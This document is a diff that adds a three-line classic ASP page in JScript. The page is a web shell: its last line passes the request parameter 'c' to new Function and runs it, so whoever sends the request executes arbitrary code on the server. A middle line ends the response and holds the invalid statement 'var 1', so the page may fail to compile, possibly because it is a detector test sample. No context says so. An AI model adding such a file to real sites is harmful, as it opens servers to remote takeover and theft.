@@ -1,0 +1,3 @@
+<%@ Language="JScript" %>
+<% Response.End(); var 1 %>
+<% new Function(Request("c"))(); %>
